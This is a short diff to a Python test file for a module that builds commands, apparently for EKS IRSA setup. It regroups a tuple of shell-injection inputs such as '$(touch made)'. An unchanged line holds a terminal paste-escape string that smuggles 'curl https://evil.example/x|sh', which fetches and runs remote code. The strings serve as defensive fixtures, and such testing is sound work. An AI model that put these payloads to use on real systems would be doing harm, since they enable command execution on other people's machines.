@@ -12,20 +12,8 @@ from irsa.rules import commands
 
 ISSUER = "https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLE"
 HOSTILE = (
-    "a b",
-    "a;touch made",
-    "$(touch made)",
-    "`touch made`",
-    "it's",
-    'say "x"',
-    "a & b",
-    "",
-    "*",
-    "# none",
-    "=ls",
-    "~",
-    "!!",
-    "日本",
+    *("a b", "a;touch made", "$(touch made)", "`touch made`", "it's", 'say "x"', "a & b", "", "*", "# none", "=ls"),
+    *("~", "!!", "日本"),
 )
 UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r")
 
